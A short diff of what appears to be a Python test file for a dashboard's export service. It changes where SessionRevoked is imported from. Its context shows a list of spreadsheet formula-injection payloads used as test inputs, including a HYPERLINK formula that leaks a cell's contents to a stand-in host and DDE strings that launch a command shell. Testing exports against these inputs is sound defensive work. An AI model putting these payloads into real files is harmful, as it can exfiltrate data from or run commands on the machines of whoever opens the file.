@@ -28,7 +28,7 @@ from dashboard_factories import authorization, driver  # noqa: E402
 from desktop.domain.roles import Role  # noqa: E402
 from desktop.models import AuditEntry, User, UserRole, now  # noqa: E402
 from desktop.services import exports  # noqa: E402
-from desktop.services.base import SessionRevoked  # noqa: E402
+from desktop.services.actors import SessionRevoked  # noqa: E402
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Clique")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
